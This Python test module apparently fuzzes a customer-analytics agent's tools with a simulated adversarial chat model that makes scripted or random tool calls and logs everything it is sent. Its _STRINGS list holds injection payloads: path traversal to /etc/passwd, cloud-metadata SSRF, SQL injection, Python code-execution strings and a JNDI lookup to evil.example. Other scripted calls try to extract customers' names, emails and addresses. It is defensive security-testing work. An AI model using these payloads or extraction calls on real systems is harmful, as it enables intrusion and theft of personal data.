"""A chat model that means harm: it calls any tool with any argument, then lies, and after a complaint lies again."""

import json
import random
from collections.abc import Callable, Sequence
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, BaseMessage, ToolMessage
from langchain_core.outputs import ChatGeneration, ChatResult
from langchain_core.utils.function_calling import convert_to_openai_tool
from pydantic import PrivateAttr

Call = tuple[str, dict[str, Any]]
Writer = Callable[[list[BaseMessage]], str]


class HostileModel(BaseChatModel):
    """Plays one attack at a time: `begin` says which calls it makes, turn by turn, and what it then writes.

    Everything it was ever sent is kept in `heard`.
    """

    _turns: list[list[Call]] = PrivateAttr(default_factory=list)
    _write: Writer | None = PrivateAttr(default=None)
    _marks: dict[str, Any] = PrivateAttr(default_factory=dict)
    _heard: list[str] = PrivateAttr(default_factory=list)
    _messages: list[BaseMessage] = PrivateAttr(default_factory=list)
    _number: int = PrivateAttr(default=0)

    @property
    def _llm_type(self) -> str:
        return "hostile"

    @property
    def heard(self) -> list[str]:
        return self._heard

    @property
    def messages(self) -> list[BaseMessage]:
        """What it was sent last."""
        return self._messages

    def begin(self, turns: Sequence[list[Call]], write: Writer, *, marks: dict[str, Any] | None = None) -> None:
        self._turns, self._write, self._marks = list(turns), write, dict(marks or {})
        self._heard.clear()

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> Any:
        return self.bind(tools=[convert_to_openai_tool(tool) for tool in tools], **kwargs)

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        self._messages = list(messages)
        self._heard.append(_everything(messages, kwargs.get("tools")))
        self._number += 1
        if self._turns:
            calls = self._turns.pop(0)
            made = [{"name": n, "args": a, "id": f"h{self._number}-{i}"} for i, (n, a) in enumerate(calls)]
            message = AIMessage("", tool_calls=made)
        else:
            assert self._write is not None
            message = AIMessage(self._write(messages), additional_kwargs=dict(self._marks))
        return ChatResult(generations=[ChatGeneration(message=message)])


def _everything(messages: Sequence[BaseMessage], tools: Any) -> str:
    """All that a prompt holds, as text: what an endpoint would be sent."""
    parts = [json.dumps(tools, ensure_ascii=False, default=str)]
    for message in messages:
        parts.append(message.content if isinstance(message.content, str) else json.dumps(message.content))
        if isinstance(message, AIMessage):
            parts += [json.dumps(message.tool_calls, ensure_ascii=False, default=str)]
    return "\n".join(parts)


def results_heard(messages: Sequence[BaseMessage]) -> list[dict[str, Any]]:
    """The results behind the tools' answers, in order, whatever form the model reads them in."""
    return [m.artifact for m in messages if isinstance(m, ToolMessage) and isinstance(m.artifact, dict)]


_STRINGS = (
    "../../../../etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "'; DROP TABLE customers; --",
    "1 OR 1=1",
    "SELECT name, email FROM customers",
    "__import__('os').system('touch /tmp/pwned')",
    "lambda: open('/etc/passwd').read()",
    "@pd.compat.os.system('id')",
    "__class__",
    "__init__.__globals__",
    "customer_id.__class__.__mro__",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{{r1.rows[0].name}}",
    "%s%s%n",
    "\x00",
    "\ud800",
    "\u202egnp.exe",
    "a" * 5000,
    "",
    " ",
    "👩‍👩‍👧",
    "NaN",
    "-0",
    "9" * 400,
)
_KEYS = (
    *("customer_id", "name", "email", "phone", "customer_name", "customer_email", "customer_phone", "country"),
    *("attr_home_address", "customer_attr_home_address", "revenue", "orders", "predicted_value", "month", "category"),
    *("product", "order_id", "review_id", "rating", "value_tier", "__class__", "index", "name_id", "Email", "NAME"),
)
_OPS = ("eq", "ne", "lt", "le", "gt", "ge", "in", "not_in", "between", "contains", "missing", "present", "eval", "")
_TOOLS = (
    *("query_customers", "query_orders", "query_reviews", "lookup_customer", "predict_value", "explain_value"),
    *("simulate_value", "assess_model", "search_reviews", "summarise_reviews", "draw_chart", "describe_data"),
    *("describe_portfolio", "plan_actions", "simulate_group", "make_report", "prepare_audience"),
    *("python", "exec", "read_file", "sql", "__import__", "query_customers.func", "", "查询"),
)
_FIELDS = (
    *("filters", "part", "group_by", "measures", "columns", "top", "having", "sort_by", "limit", "compare", "period"),
    *("share_within", "against", "customer", "customer_id", "customer_ids", "horizon_days", "query", "aspect", "about"),
    *("what", "source", "kind", "x", "y", "orders", "order_value", "days_later", "runtime", "self", "__proto__"),
    *("rating_max", "start", "end", "by", "total", "lowest", "descending", "table", "without_returns"),
    *("actions", "margin", "response_rate", "contact_cost", "budget", "control_share", "seed", "scenarios"),
    *("segment", "formats", "language"),
)


def hostile_calls(rng: random.Random, people: Sequence[str], ids: Sequence[str]) -> list[Call]:
    """One to three calls made at once, from nearly sound to wholly mad."""
    return [_call(rng, people, ids) for _ in range(rng.randint(1, 3))]


def _call(rng: random.Random, people: Sequence[str], ids: Sequence[str]) -> Call:
    if rng.random() < 0.45:
        return _nearly_sound(rng, people, ids)
    fields = rng.sample(_FIELDS, rng.randint(0, 5))
    return rng.choice(_TOOLS), {name: _value(rng, people, ids) for name in fields}


def _nearly_sound(rng: random.Random, people: Sequence[str], ids: Sequence[str]) -> Call:
    """A call that a tool may well answer: the walls behind the schema are reached only so."""
    key, person, one = rng.choice(_KEYS), rng.choice(list(people)), rng.choice(list(ids))
    table = rng.choice(("query_customers", "query_orders", "query_reviews"))
    personal = rng.choice(("name", "email", "phone", "customer_name", "attr_home_address"))
    calls: tuple[Call, ...] = (
        (table, {"columns": rng.sample(_KEYS[:12], 3), "limit": 1000}),
        (table, {"group_by": [key], "measures": [{"metric": "revenue"}]}),
        (table, {"filters": [{"column": personal, "op": "contains", "value": person[:3]}], "columns": ["customer_id"]}),
        (table, {"filters": [{"column": personal, "op": "eq", "value": person}], "measures": [{"metric": "orders"}]}),
        (table, {"measures": [{"metric": "revenue", "aggregate": "max", "per": key}]}),
        (table, {"filters": [{"column": "customer_id", "op": "in", "value": list(ids)[:5]}], "columns": ["name"]}),
        (table, {"filters": [{"column": "customer_id", "op": "eq", "value": one}], "columns": ["name", "revenue"]}),
        (table, {"columns": ["customer_id"], "sort_by": personal}),
        (table, {"top": {"by": key, "count": 3}, "columns": ["customer_id"]}),
        (table, {"part": [{"column": personal, "op": "present"}], "measures": [{"metric": "customers"}]}),
        (table, {"group_by": ["customer_id", "country"], "measures": [{"metric": "orders"}], "share_within": [key]}),
        ("lookup_customer", {"customer": person}),
        ("lookup_customer", {"customer": one}),
        ("lookup_customer", {"customer": person[:4]}),
        ("predict_value", {"customer_ids": list(ids)[:3]}),
        ("predict_value", {"limit": 1000}),
        ("predict_value", {"group_by": [key]}),
        ("predict_value", {"filters": [{"column": personal, "op": "contains", "value": person[:3]}], "total": True}),
        ("explain_value", {"customer_id": one, "horizon_days": rng.choice((1, 90, 1095, 10**9))}),
        ("simulate_value", {"customer_id": one, "orders": 3, "order_value": rng.choice((1, 1e9, 1e300))}),
        ("simulate_group", {"filters": [{"column": key, "op": "eq", "value": one}], "scenarios": [{"orders": 2}]}),
        ("simulate_group", {"filters": [{"column": personal, "op": "eq", "value": person}], "scenarios": [{}]}),
        ("search_reviews", {"query": person, "limit": 50}),
        ("search_reviews", {"filters": [{"column": personal, "op": "contains", "value": person[:3]}]}),
        ("search_reviews", {"customer_ids": list(ids)[:2]}),
        ("summarise_reviews", {"aspects": ["delivery"], "by": "month"}),
        ("assess_model", {"what": rng.choice(("accuracy", "importance", "training", "__class__"))}),
        ("describe_portfolio", {"what": rng.choice(("movers", "segments", "cohorts", "__class__"))}),
        ("plan_actions", {"customer_id": one, "margin": rng.choice((0, 1, 1e300, -1))}),
        ("plan_actions", {"what": rng.choice(("actions", "customers", "categories", "__class__")), "limit": 1000}),
        ("plan_actions", {"budget": rng.choice((0, 50, 1e300)), "what": rng.choice(("customers", "curve", "trial"))}),
        ("plan_actions", {"filters": [{"column": personal, "op": "contains", "value": person[:3]}]}),
        ("plan_actions", {"filters": [{"column": key, "op": "present"}], "actions": [person], "what": "customers"}),
        ("prepare_audience", {"filters": [{"column": personal, "op": "contains", "value": person[:3]}]}),
        ("prepare_audience", {"segment": rng.choice((person, "at_risk")), "channel": rng.choice(("sms", "fax"))}),
        ("make_report", {"kind": "customer", "customer": rng.choice((one, person)), "formats": ["json"]}),
        ("make_report", {"kind": rng.choice(("segment", "../x")), "segment": person, "formats": ["json", "json"]}),
        ("describe_data", {"about": [key, person]}),
        ("describe_data", {}),
        ("draw_chart", {"source": "r1", "kind": "bar", "x": key, "y": ["revenue"]}),
    )
    return rng.choice(calls)


def _value(rng: random.Random, people: Sequence[str], ids: Sequence[str], *, depth: int = 0) -> Any:
    if rng.random() < 0.03:
        nested: Any = "deep"
        for _ in range(rng.choice((20, 400))):
            nested = {"filters": [nested]}
        return nested
    choices: list[Callable[[], Any]] = [
        lambda: rng.choice(_STRINGS),
        lambda: rng.choice(_KEYS),
        lambda: rng.choice(list(people)),
        lambda: rng.choice(list(ids)),
        lambda: rng.choice((0, -1, 1, 7, 10**9, 10**400, -(10**30), 1e308, float("nan"), float("inf"), True, None)),
        lambda: {"column": rng.choice(_KEYS), "op": rng.choice(_OPS), "value": rng.choice(_STRINGS)},
        lambda: {"metric": rng.choice(_KEYS), "aggregate": rng.choice(("default", "max", "eval"))},
    ]
    if depth < 3:
        choices.append(lambda: [_value(rng, people, ids, depth=depth + 1) for _ in range(rng.randint(0, 3))])
        choices.append(lambda: {rng.choice(_KEYS): _value(rng, people, ids, depth=depth + 1)})
    return rng.choice(choices)()
